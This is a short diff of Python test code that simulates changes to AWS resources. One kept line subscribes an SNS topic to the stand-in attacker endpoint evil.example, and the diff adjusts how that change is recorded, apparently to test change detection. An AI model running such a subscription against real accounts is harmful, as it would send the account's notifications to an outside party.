@@ -230,7 +230,8 @@ def _touch(client: Client) -> dict[tuple[str, str], str]:
 
     topic = next(one["TopicArn"] for one in client("sns").list_topics()["Topics"])
     client("sns").subscribe(TopicArn=topic, Protocol="https", Endpoint="https://evil.example/")
-    changed["AWS::SNS::Topic", "Subscriptions.https://evil.example/"] = "alerts"
+    # The first that the record knows of: the site's own is in none.
+    changed["AWS::SNS::Topic", "Subscriptions"] = "alerts"
 
     cache = client("elasticache")
     cache.modify_replication_group(
